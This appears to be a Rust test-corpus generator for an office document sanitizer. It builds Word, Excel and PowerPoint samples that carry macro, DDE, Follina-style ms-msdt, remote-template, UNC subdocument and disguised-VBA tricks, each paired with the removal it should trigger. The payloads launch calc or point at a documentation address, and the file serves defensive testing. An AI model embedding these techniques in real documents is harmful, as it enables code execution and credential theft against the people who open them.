//! Cases for the office rebuilder: OOXML packages, legacy OLE2 files and
//! RTF, each carrying one danger factor of the catalogue (or none).

use crate::build::zip;
use crate::{Case, Expect};
use mugai_core::Code;
use std::io::Write;

const RELS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const MS_RELS: &str = "http://schemas.microsoft.com/office/2006/relationships";
pub const CT_DOCX: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
pub const CT_DOCM: &str = "application/vnd.ms-word.document.macroEnabled.main+xml";
const CT_XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const CT_XLSM: &str = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
const CT_SHEET: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";
const CT_PPTX: &str =
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml";
const CT_SLIDE: &str = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml";
const CT_VBA: &str = "application/vnd.ms-office.vbaProject";
const W_NS: &str = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:v=\"urn:schemas-microsoft-com:vml\"";

/// A relationship: (id, type, target, external).
pub type Rel<'a> = (&'a str, String, &'a str, bool);

/// One part of a package: (name, content type, bytes).
pub type Part<'a> = (&'a str, &'a str, Vec<u8>);

pub fn rels_xml(rels: &[Rel<'_>]) -> Vec<u8> {
    let mut s = String::from("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">");
    for (id, ty, target, ext) in rels {
        s.push_str(&format!(
            "<Relationship Id=\"{id}\" Type=\"{ty}\" Target=\"{target}\"{}/>",
            if *ext { " TargetMode=\"External\"" } else { "" }
        ));
    }
    s.push_str("</Relationships>");
    s.into_bytes()
}

/// A package from its parts; `[Content_Types].xml` lists every part (plus
/// `ghosts`, overrides for parts that are not there) and `_rels/.rels`
/// points at `main` plus `root_extra`.
pub fn package(
    main: &str,
    parts: &[Part<'_>],
    root_extra: &[Rel<'_>],
    rels: &[(&str, Vec<u8>)],
    ghosts: &[&str],
) -> Vec<u8> {
    let mut ct = String::from("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>");
    for (name, t, _) in parts {
        ct.push_str(&format!(
            "<Override PartName=\"/{name}\" ContentType=\"{t}\"/>"
        ));
    }
    for g in ghosts {
        ct.push_str(&format!(
            "<Override PartName=\"/{g}\" ContentType=\"application/xml\"/>"
        ));
    }
    ct.push_str("</Types>");
    let mut root: Vec<Rel<'_>> = vec![("rId1", format!("{RELS}/officeDocument"), main, false)];
    root.extend(root_extra.iter().cloned());
    let root = rels_xml(&root);
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", ct.as_bytes()),
        ("_rels/.rels", &root),
    ];
    for (name, _, b) in parts {
        entries.push((name, b));
    }
    for (name, b) in rels {
        entries.push((name, b));
    }
    zip(&entries)
}

/// A Word package whose `[Content_Types].xml` has the two usual defaults,
/// `defaults` (raw `<Default>` elements), an override for each of `parts`
/// (written as named, whatever their case), and no entry for `untyped`.
/// The main part is the first of `parts`, named in `_rels/.rels` in lower
/// case.
pub fn package_typed(
    defaults: &str,
    parts: &[Part<'_>],
    rels: &[(&str, Vec<u8>)],
    untyped: &[(&str, Vec<u8>)],
) -> Vec<u8> {
    let mut ct = format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>{defaults}");
    for (name, t, _) in parts {
        ct.push_str(&format!(
            "<Override PartName=\"/{name}\" ContentType=\"{t}\"/>"
        ));
    }
    ct.push_str("</Types>");
    let main = parts
        .first()
        .map(|p| p.0.to_ascii_lowercase())
        .unwrap_or_default();
    let root = rels_xml(&[("rId1", format!("{RELS}/officeDocument"), &main, false)]);
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", ct.as_bytes()),
        ("_rels/.rels", &root),
    ];
    for (name, _, b) in parts {
        entries.push((name, b));
    }
    for (name, b) in rels.iter().chain(untyped) {
        entries.push((name, b));
    }
    zip(&entries)
}

fn para(text: &str) -> String {
    format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
}

pub fn word_doc(body: &str) -> Vec<u8> {
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document {W_NS}><w:body>{body}</w:body></w:document>").into_bytes()
}

/// A one-part Word document with `body`, its relationships and extra parts.
pub fn docx(
    main_ct: &'static str,
    body: &str,
    doc_rels: &[Rel<'_>],
    extra: Vec<Part<'static>>,
    extra_rels: Vec<(&'static str, Vec<u8>)>,
) -> Vec<u8> {
    let mut parts = vec![("word/document.xml", main_ct, word_doc(body))];
    parts.extend(extra);
    let mut rels = extra_rels;
    if !doc_rels.is_empty() {
        rels.push(("word/_rels/document.xml.rels", rels_xml(doc_rels)));
    }
    package("word/document.xml", &parts, &[], &rels, &[])
}

fn workbook(sheets: &str, extra: &str) -> Vec<u8> {
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"{RELS}\"><sheets>{sheets}</sheets>{extra}</workbook>").into_bytes()
}

fn sheet(cells: &str) -> Vec<u8> {
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\">{cells}</row></sheetData></worksheet>").into_bytes()
}

fn slide(shapes: &str) -> Vec<u8> {
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><p:sld xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"{RELS}\" xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"><p:cSld><p:spTree>{shapes}</p:spTree></p:cSld></p:sld>").into_bytes()
}

fn presentation() -> Vec<u8> {
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><p:presentation xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"{RELS}\" xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId2\"/></p:sldIdLst></p:presentation>").into_bytes()
}

fn text_shape(text: &str, extra_rpr: &str) -> String {
    format!("<p:sp><p:txBody><a:p><a:r><a:rPr>{extra_rpr}</a:rPr><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>")
}

fn pptx(
    slide_body: &str,
    slide_rels: &[Rel<'_>],
    extra: Vec<Part<'static>>,
    extra_rels: Vec<(&'static str, Vec<u8>)>,
) -> Vec<u8> {
    let mut parts = vec![
        ("ppt/presentation.xml", CT_PPTX, presentation()),
        ("ppt/slides/slide1.xml", CT_SLIDE, slide(slide_body)),
    ];
    parts.extend(extra);
    let mut rels = vec![(
        "ppt/_rels/presentation.xml.rels",
        rels_xml(&[("rId2", format!("{RELS}/slide"), "slides/slide1.xml", false)]),
    )];
    if !slide_rels.is_empty() {
        rels.push(("ppt/slides/_rels/slide1.xml.rels", rels_xml(slide_rels)));
    }
    rels.extend(extra_rels);
    package("ppt/presentation.xml", &parts, &[], &rels, &[])
}

/// A compound file from `(path, bytes)` streams (storages are created on the way).
pub fn cfb_file(streams: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut c = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).expect("cfb");
    for (path, bytes) in streams {
        let p = std::path::Path::new(path);
        if let Some(parent) = p.parent() {
            if parent != std::path::Path::new("/") {
                c.create_storage_all(parent).expect("storage");
            }
        }
        c.create_stream(p)
            .expect("stream")
            .write_all(bytes)
            .expect("write");
    }
    // Storages are stamped with the current time: fix it, so the corpus is
    // the same on every run.
    let fixed = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_577_836_800);
    let storages: Vec<std::path::PathBuf> = c
        .walk()
        .filter(|e| e.is_storage())
        .map(|e| e.path().to_path_buf())
        .collect();
    for p in storages {
        c.set_created_time(&p, fixed).expect("created time");
        c.set_modified_time(&p, fixed).expect("modified time");
    }
    c.flush().expect("flush");
    c.into_inner().into_inner()
}

/// A Word 97 FIB: wIdent, nFib, the flags word at 0x0A, and the counts of
/// its three arrays (14 words, 22 longs, 93 fc/lcb pairs), all zero.
pub fn word_stream(flags: u16) -> Vec<u8> {
    let mut v = vec![0u8; 1024];
    v[0..2].copy_from_slice(&0xA5ECu16.to_le_bytes());
    v[2..4].copy_from_slice(&0x00C1u16.to_le_bytes());
    v[0x0A..0x0C].copy_from_slice(&flags.to_le_bytes());
    v[32..34].copy_from_slice(&14u16.to_le_bytes());
    v[62..64].copy_from_slice(&22u16.to_le_bytes());
    v[152..154].copy_from_slice(&93u16.to_le_bytes());
    v
}

/// A Word 97 document whose main text is `text` (8-bit, one piece at
/// 0x400) with the fields whose characters sit at `marks` (CP, field
/// character, flt/flags byte): the WordDocument and 1Table streams.
pub fn word97(text: &[u8], marks: &[(u32, u8, u8)]) -> (Vec<u8>, Vec<u8>) {
    let mut wd = word_stream(0x0200);
    wd.resize(0x400, 0);
    wd.extend_from_slice(text);
    wd.resize(0x400 + text.len().div_ceil(512) * 512 + 512, 0);
    let set_lw = |wd: &mut Vec<u8>, i: usize, v: u32| {
        wd[64 + i * 4..68 + i * 4].copy_from_slice(&v.to_le_bytes())
    };
    let set_fclcb = |wd: &mut Vec<u8>, i: usize, fc: u32, lcb: u32| {
        wd[154 + i * 8..158 + i * 8].copy_from_slice(&fc.to_le_bytes());
        wd[158 + i * 8..162 + i * 8].copy_from_slice(&lcb.to_le_bytes());
    };
    set_lw(&mut wd, 3, text.len() as u32);
    let mut table = Vec::new();
    if !marks.is_empty() {
        for (cp, _, _) in marks {
            table.extend_from_slice(&cp.to_le_bytes());
        }
        table.extend_from_slice(&(text.len() as u32).to_le_bytes());
        for (_, ch, flags) in marks {
            table.push(*ch);
            table.push(*flags);
        }
        set_fclcb(&mut wd, 16, 0, table.len() as u32);
    }
    let clx_at = table.len() as u32;
    table.push(0x02);
    table.extend_from_slice(&16u32.to_le_bytes());
    table.extend_from_slice(&0u32.to_le_bytes());
    table.extend_from_slice(&(text.len() as u32).to_le_bytes());
    table.extend_from_slice(&[0, 0]);
    table.extend_from_slice(&((0x400u32 * 2) | 0x4000_0000).to_le_bytes());
    table.extend_from_slice(&[0, 0]);
    set_fclcb(&mut wd, 33, clx_at, 21);
    table.resize(512, 0);
    (wd, table)
}

/// A Word 97 document with one field: `before`, the field (instruction,
/// result), `after`.
pub fn word97_field(before: &str, instr: &str, result: &str, after: &str) -> (Vec<u8>, Vec<u8>) {
    let mut text = before.as_bytes().to_vec();
    let b = text.len() as u32;
    text.push(0x13);
    text.extend_from_slice(instr.as_bytes());
    let s = text.len() as u32;
    text.push(0x14);
    text.extend_from_slice(result.as_bytes());
    let e = text.len() as u32;
    text.push(0x15);
    text.extend_from_slice(after.as_bytes());
    text.push(b'\r');
    word97(&text, &[(b, 0x13, 0x2E), (s, 0x14, 0), (e, 0x15, 0x80)])
}

/// A Word 6/95 WordDocument stream (wIdent 0xA5DC, nFib 101) with the
/// FIB `flags` and 8-bit `text` from fcMin = 0x200.
pub fn word6_stream(flags: u16, text: &[u8]) -> Vec<u8> {
    let mut v = vec![0u8; 0x200];
    v[0..2].copy_from_slice(&0xA5DCu16.to_le_bytes());
    v[2..4].copy_from_slice(&101u16.to_le_bytes());
    v[0x0A..0x0C].copy_from_slice(&flags.to_le_bytes());
    v[0x18..0x1C].copy_from_slice(&0x200u32.to_le_bytes());
    v[0x1C..0x20].copy_from_slice(&(0x200 + text.len() as u32).to_le_bytes());
    v.extend_from_slice(text);
    v.resize(v.len().div_ceil(512) * 512, 0);
    v
}

/// A Word 97 document with a HYPERLINK field to `url` whose instruction
/// ends in a picture character carrying the hyperlink's data: a CHPX FKP
/// gives that character `sprmCPicLocation` = 0, and the Data stream holds
/// a `NilPICFAndBinData` with the target. (WordDocument, 1Table, Data.)
pub fn word97_hyperlink(url: &str) -> (Vec<u8>, Vec<u8>, Vec<u8>) {
    let instr = format!(" HYPERLINK \"{url}\" ");
    let mut text = b"See ".to_vec();
    let b = text.len() as u32;
    text.push(0x13);
    text.extend_from_slice(instr.as_bytes());
    let pic = text.len() as u32;
    text.push(0x01);
    let sep = text.len() as u32;
    text.push(0x14);
    text.extend_from_slice(b"the page");
    let e = text.len() as u32;
    text.push(0x15);
    text.extend_from_slice(b" now.\r");
    let (mut wd, mut table) = word97(&text, &[(b, 0x13, 0x58), (sep, 0x14, 0), (e, 0x15, 0x80)]);
    // One FKP page after the text: runs [0x400, pic), [pic, pic+1), [pic+1, end).
    let page_no = wd.len() / 512;
    let mut page = vec![0u8; 512];
    let fcs = [
        0x400,
        0x400 + pic,
        0x400 + pic + 1,
        0x400 + text.len() as u32,
    ];
    for (i, fc) in fcs.iter().enumerate() {
        page[i * 4..i * 4 + 4].copy_from_slice(&fc.to_le_bytes());
    }
    // The second run's Chpx at word offset 0xF0 (byte 0x1E0): sprmCFSpec,
    // sprmCFData, sprmCPicLocation 0.
    page[16 + 1] = 0xF0;
    let grpprl = [0x55, 0x08, 1, 0x06, 0x08, 1, 0x03, 0x6A, 0, 0, 0, 0];
    page[0x1E0] = grpprl.len() as u8;
    page[0x1E1..0x1E1 + grpprl.len()].copy_from_slice(&grpprl);
    page[511] = 3;
    wd.extend_from_slice(&page);
    // PlcBteChpx in the table stream, FibRgFcLcb97 index 12.
    let at = table.len() as u32;
    table.extend_from_slice(&0x400u32.to_le_bytes());
    table.extend_from_slice(&(0x400 + text.len() as u32).to_le_bytes());
    table.extend_from_slice(&(page_no as u32).to_le_bytes());
    wd[154 + 12 * 8..158 + 12 * 8].copy_from_slice(&at.to_le_bytes());
    wd[158 + 12 * 8..162 + 12 * 8].copy_from_slice(&12u32.to_le_bytes());
    // NilPICFAndBinData: lcb, cbHeader 0x44, 62 zero bytes, then the HFD
    // (bits, the StdHlink CLSID, a hyperlink object naming the URL).
    let mut hfd = vec![0x00];
    hfd.extend_from_slice(&[
        0xD0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9,
        0x0B,
    ]);
    hfd.extend_from_slice(&2u32.to_le_bytes());
    hfd.extend_from_slice(&3u32.to_le_bytes());
    let wide: Vec<u8> = url
        .encode_utf16()
        .chain([0])
        .flat_map(u16::to_le_bytes)
        .collect();
    hfd.extend_from_slice(&(wide.len() as u32).to_le_bytes());
    hfd.extend_from_slice(&wide);
    let mut data = ((0x44 + hfd.len()) as u32).to_le_bytes().to_vec();
    data.extend_from_slice(&0x44u16.to_le_bytes());
    data.resize(0x44, 0);
    data.extend_from_slice(&hfd);
    (wd, table, data)
}

fn biff(records: &[(u16, Vec<u8>)]) -> Vec<u8> {
    let mut v = Vec::new();
    for (ty, body) in records {
        v.extend_from_slice(&ty.to_le_bytes());
        v.extend_from_slice(&(body.len() as u16).to_le_bytes());
        v.extend_from_slice(body);
    }
    v
}

/// A BIFF8 workbook stream with one BOUNDSHEET of sheet type `dt`.
pub fn workbook_stream(dt: u8, filepass: bool) -> Vec<u8> {
    let mut recs = vec![(
        0x0809u16,
        vec![0, 6, 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
    )];
    if filepass {
        recs.push((0x002F, vec![0, 0]));
    }
    recs.push((0x0085, vec![0, 0, 0, 0, 0, dt, 1, 0, b'S']));
    recs.push((0x000A, vec![]));
    biff(&recs)
}

/// A BIFF8 workbook stream whose formula `=cmd|' /c calc'!A0` left its
/// DDE link behind: SUPBOOK `cmd\x03 /c calc` and EXTERNNAME `A0`.
pub fn workbook_dde_stream() -> Vec<u8> {
    let path = b"cmd\x03 /c calc";
    let mut sup = vec![0, 0, path.len() as u8, 0, 0];
    sup.extend_from_slice(path);
    // EXTERNNAME: flags (fWantAdvise), reserved, name `A0`.
    let name = vec![0x02, 0, 0, 0, 0, 0, 2, 0, b'A', b'0'];
    biff(&[
        (0x0809, vec![0, 6, 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
        (0x01AE, vec![1, 0, 1, 4]),
        (0x01AE, sup),
        (0x0023, name),
        (0x0085, vec![0, 0, 0, 0, 0, 0, 1, 0, b'S']),
        (0x000A, vec![]),
    ])
}

fn vba_storage(root: &str) -> Vec<(String, Vec<u8>)> {
    vec![
        (format!("{root}/VBA/dir"), vec![1, 2, 3, 4]),
        (format!("{root}/VBA/ThisDocument"), b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub".to_vec()),
        (format!("{root}/VBA/_VBA_PROJECT"), vec![0xCC, 0x61, 0xFF, 0xFF]),
        (format!("{root}/PROJECT"), b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument=ThisDocument/&H00000000".to_vec()),
    ]
}

fn cfb_owned(streams: Vec<(String, Vec<u8>)>) -> Vec<u8> {
    let v: Vec<(&str, Vec<u8>)> = streams
        .iter()
        .map(|(p, b)| (p.as_str(), b.clone()))
        .collect();
    cfb_file(&v)
}

/// A PowerPoint Document stream: a DocumentContainer holding `inner` records.
fn ppt_stream(inner: &[(u16, u16, Vec<u8>)]) -> Vec<u8> {
    let mut body = Vec::new();
    for (ver, ty, b) in inner {
        body.extend_from_slice(&ver.to_le_bytes());
        body.extend_from_slice(&ty.to_le_bytes());
        body.extend_from_slice(&(b.len() as u32).to_le_bytes());
        body.extend_from_slice(b);
    }
    let mut v = Vec::new();
    v.extend_from_slice(&0x000Fu16.to_le_bytes());
    v.extend_from_slice(&0x03E8u16.to_le_bytes());
    v.extend_from_slice(&(body.len() as u32).to_le_bytes());
    v.extend_from_slice(&body);
    v
}

pub fn cases() -> Vec<Case> {
    let mut v = Vec::new();
    v.extend(ooxml_cases());
    v.extend(ole_cases());
    v.extend(rtf_cases());
    v
}

fn ooxml_cases() -> Vec<Case> {
    use Code::*;
    let mut v = Vec::new();
    let plain = para("これは安全な文書です。 A harmless document.");

    v.push(Case::new(
        "office/clean.docx",
        docx(CT_DOCX, &plain, &[], vec![], vec![]),
        Expect::clean("a plain Word document: rebuilt, nothing to remove"),
    ));

    // docm saved as .docx: the content types say macro-enabled.
    let vba_rel = [(
        "rId9",
        format!("{MS_RELS}/vbaProject"),
        "vbaProject.bin",
        false,
    )];
    v.push(Case::new(
        "office/docm_saved_as.docx",
        docx(
            CT_DOCM,
            &plain,
            &vba_rel,
            vec![(
                "word/vbaProject.bin",
                CT_VBA,
                b"\xCC\x61 Attribute VB_Name AutoOpen Shell".to_vec(),
            )],
            vec![],
        ),
        Expect::sanitized(
            &[OoxmlVba],
            "a docm under a .docx name: vbaProject removed, rebuilt as docx",
        ),
    ));
    // vbaProject behind an unusual part name.
    let odd_rel = [(
        "rId9",
        format!("{MS_RELS}/vbaProject"),
        "theme/theme2.bin",
        false,
    )];
    v.push(Case::new(
        "office/vba_unusual_name.docm",
        docx(
            CT_DOCM,
            &plain,
            &odd_rel,
            vec![(
                "word/theme/theme2.bin",
                CT_VBA,
                b"\xCC\x61 Sub AutoOpen()".to_vec(),
            )],
            vec![],
        ),
        Expect::sanitized(
            &[OoxmlVba],
            "vbaProject reached only through its relationship type (part word/theme/theme2.bin)",
        ),
    ));
    // ... and whose content type claims to be a picture.
    let lie_rel = [(
        "rId9",
        format!("{MS_RELS}/vbaProject"),
        "media/image9.png",
        false,
    )];
    v.push(Case::new(
        "office/vba_as_png.docm",
        docx(
            CT_DOCM,
            &plain,
            &lie_rel,
            vec![(
                "word/media/image9.png",
                "image/png",
                b"\xCC\x61 Sub AutoOpen()".to_vec(),
            )],
            vec![],
        ),
        Expect::sanitized(
            &[OoxmlVba, OoxmlContentTypeLie],
            "vbaProject relationship to a part declared image/png",
        ),
    ));
    // vbaProject.bin present but never referenced.
    v.push(Case::new(
        "office/unreferenced_vba.docx",
        package(
            "word/document.xml",
            &[
                ("word/document.xml", CT_DOCX, word_doc(&plain)),
                ("word/vbaProject.bin", CT_VBA, b"\xCC\x61".to_vec()),
            ],
            &[],
            &[],
            &[],
        ),
        Expect::sanitized(
            &[OoxmlVba],
            "an unreferenced vbaProject.bin is left behind and reported",
        ),
    ));
    // Remote attachedTemplate (CVE-2017-0199 style).
    let settings = format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:settings {W_NS}><w:attachedTemplate r:id=\"rId1\"/></w:settings>").into_bytes();
    let settings_rels = rels_xml(&[(
        "rId1",
        format!("{RELS}/attachedTemplate"),
        "http://203.0.113.5/template.dotm",
        true,
    )]);
    v.push(Case::new(
        "office/remote_template.docx",
        docx(
            CT_DOCX,
            &plain,
            &[("rId3", format!("{RELS}/settings"), "settings.xml", false)],
            vec![(
                "word/settings.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
                settings,
            )],
            vec![("word/_rels/settings.xml.rels", settings_rels)],
        ),
        Expect::sanitized(
            &[OoxmlExternalRel],
            "remote attachedTemplate relationship and its w:attachedTemplate removed",
        ),
    ));
    // External oleObject with mhtml: and ms-msdt: targets (CVE-2022-30190).
    for (name, target) in [
        (
            "office/ole_mhtml.docx",
            "mhtml:http://203.0.113.5/x.html!x-usc:http://203.0.113.5/x.html",
        ),
        (
            "office/ole_msmsdt.docx",
            "ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=calc&quot;",
        ),
    ] {
        let body = format!("{plain}<w:p><w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" ShapeID=\"_x0000_i1025\" DrawAspect=\"Content\" r:id=\"rId5\" UpdateMode=\"OnCall\"/></w:object></w:r></w:p>");
        v.push(Case::new(
            name,
            docx(
                CT_DOCX,
                &body,
                &[("rId5", format!("{RELS}/oleObject"), target, true)],
                vec![],
                vec![],
            ),
            Expect::sanitized(
                &[OoxmlExternalRel],
                "external oleObject relationship (Follina style) and its o:OLEObject removed",
            ),
        ));
    }
    // Frame / subDocument pointing elsewhere.
    v.push(Case::new(
        "office/subdocument.docx",
        docx(
            CT_DOCX,
            &format!("{plain}<w:p><w:subDoc r:id=\"rId7\"/></w:p>"),
            &[(
                "rId7",
                format!("{RELS}/subDocument"),
                "\\\\203.0.113.5\\share\\sub.docx",
                true,
            )],
            vec![],
            vec![],
        ),
        Expect::sanitized(
            &[OoxmlExternalRel],
            "external subDocument (NTLM leak) removed",
        ),
    ));
    // DDEAUTO split across runs.
    let dde = format!(
        "{plain}<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe &quot;/k calc.exe&quot;</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>shown result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    );
    v.push(Case::new(
        "office/ddeauto_split.docx",
        docx(CT_DOCX, &dde, &[], vec![], vec![]),
        Expect::sanitized(
            &[OoxmlDde],
            "DDEAUTO field code split over two w:instrText runs removed, result text kept",
        ),
    ));
    v.push(Case::new(
        "office/dde_fldsimple.docx",
        docx(CT_DOCX, &format!("{plain}<w:p><w:fldSimple w:instr=\" DDE &quot;c:\\\\windows\\\\cmd.exe&quot; &quot;/c calc&quot; \"><w:r><w:t>result</w:t></w:r></w:fldSimple></w:p>"), &[], vec![], vec![]),
        Expect::sanitized(&[OoxmlDde], "DDE in w:fldSimple removed, result run kept"),
    ));
    v.push(Case::new(
        "office/includepicture_remote.docx",
        docx(
            CT_DOCX,
            &format!("{plain}<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> INCLUDEPICTURE &quot;http://203.0.113.5/track.png&quot; \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"),
            &[],
            vec![],
            vec![],
        ),
        Expect::sanitized(&[OoxmlExternalRel], "INCLUDEPICTURE field with a remote target removed"),
    ));
    // Hyperlink: neutralised (the text stays).
    v.push(Case::new(
        "office/hyperlink.docx",
        docx(
            CT_DOCX,
            "<w:p><w:hyperlink r:id=\"rId4\"><w:r><w:t>リンク link text</w:t></w:r></w:hyperlink></w:p>",
            &[("rId4", format!("{RELS}/hyperlink"), "https://example.jp/login", true)],
            vec![],
            vec![],
        ),
        Expect::sanitized(&[OoxmlHyperlink], "hyperlink relationship dropped and r:id removed, the link text stays"),
    ));
    // customUI ribbon with callbacks.
    let custom_ui = b"<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"Ribbon_Load\"><ribbon/></customUI>".to_vec();
    v.push(Case::new(
        "office/customui.docx",
        package(
            "word/document.xml",
            &[
                ("word/document.xml", CT_DOCX, word_doc(&plain)),
                ("customUI/customUI14.xml", "application/xml", custom_ui),
            ],
            &[(
                "rId2",
                "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
                    .to_string(),
                "customUI/customUI14.xml",
                false,
            )],
            &[],
            &[],
        ),
        Expect::sanitized(
            &[OoxmlCustomUi],
            "customUI ribbon extension with an onLoad callback removed",
        ),
    ));
    // [Content_Types].xml naming a part that is not there.
    v.push(Case::new(
        "office/content_types_ghost.docx",
        package(
            "word/document.xml",
            &[("word/document.xml", CT_DOCX, word_doc(&plain))],
            &[],
            &[],
            &["word/vbaProject.bin"],
        ),
        Expect::sanitized(
            &[OoxmlContentTypeLie],
            "[Content_Types].xml names a part the package does not have",
        ),
    ));

    // Content types on the kept list, by the role of each part.
    let styles_rel = |target: &'static str| [("rId3", format!("{RELS}/styles"), target, false)];
    let styles_xml =
        format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:styles {W_NS}/>")
            .into_bytes();
    v.push(Case::new(
        "office/ct_outside_kept_list.docx",
        docx(
            CT_DOCX,
            &plain,
            &styles_rel("styles.xml"),
            vec![(
                "word/styles.xml",
                "application/vnd.example.stylesheet+xml",
                styles_xml.clone(),
            )],
            vec![],
        ),
        Expect::sanitized(
            &[OfficeUnsupported],
            "a styles part whose content type is on no kept list: dropped and reported",
        ),
    ));
    v.push(Case::new(
        "office/ct_other_role.docx",
        docx(
            CT_DOCX,
            &plain,
            &styles_rel("styles.xml"),
            vec![("word/styles.xml", CT_SHEET, styles_xml.clone())],
            vec![],
        ),
        Expect::sanitized(
            &[OoxmlContentTypeLie],
            "a styles relationship to a part declared a worksheet: dropped",
        ),
    ));
    v.push(Case::new(
        "office/ct_picture_as_styles.docx",
        docx(
            CT_DOCX,
            &plain,
            &styles_rel("media/s.png"),
            vec![(
                "word/media/s.png",
                "image/png",
                crate::image::png(&image::RgbImage::new(2, 2)),
            )],
            vec![],
        ),
        Expect::sanitized(
            &[OoxmlContentTypeLie],
            "a styles relationship to a picture: only picture relationships keep pictures",
        ),
    ));
    v.push(Case::new(
        "office/ct_picture_rel_to_text.docx",
        docx(
            CT_DOCX,
            &plain,
            &[(
                "rId5",
                format!("{RELS}/image"),
                "media/image1.png",
                false,
            )],
            vec![(
                "word/media/image1.png",
                "image/png",
                b"=cmd|' /c calc'!A0\r\nnot a picture at all\r\n".to_vec(),
            )],
            vec![],
        ),
        Expect::sanitized(
            &[OoxmlContentTypeLie],
            "a picture relationship to a part declared image/png that holds text: dropped, never kept as another type",
        ),
    ));
    v.push(Case::new(
        "office/ct_default_bin_activex.docx",
        package_typed(
            "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.activeX\"/>",
            &[("word/document.xml", CT_DOCX, word_doc(&plain))],
            &[(
                "word/_rels/document.xml.rels",
                rels_xml(&[("rId5", format!("{RELS}/image"), "media/image1.bin", false)]),
            )],
            &[(
                "word/media/image1.bin",
                b"\xD0\xCF\x11\xE0 ActiveX control".to_vec(),
            )],
        ),
        Expect::sanitized(
            &[OoxmlActivex],
            "a picture relationship to a .bin part typed ActiveX by a Default entry: removed",
        ),
    ));
    v.push(Case::new(
        "office/ct_case_variants.docm",
        package_typed(
            "",
            &[
                (
                    "WORD/Document.XML",
                    "APPLICATION/VND.MS-WORD.DOCUMENT.MACROENABLED.MAIN+XML",
                    word_doc(&plain),
                ),
                (
                    "word/STYLES.xml",
                    "Application/Vnd.OpenXmlFormats-OfficeDocument.WordprocessingML.Styles+XML",
                    styles_xml.clone(),
                ),
            ],
            &[(
                "word/_rels/document.xml.rels",
                rels_xml(&styles_rel("styles.xml")),
            )],
            &[],
        ),
        Expect::sanitized(
            &[OoxmlVba],
            "part names and content types in other case: matched without case, written as the kept list spells them (the macro-enabled main part as docx)",
        ),
    ));

    // Excel: external link, DDE link, DDE formula, XLM macro sheet.
    let xl_rels = |extra: &[Rel<'_>]| {
        let mut r: Vec<Rel<'_>> = vec![(
            "rId1",
            format!("{RELS}/worksheet"),
            "worksheets/sheet1.xml",
            false,
        )];
        r.extend(extra.iter().cloned());
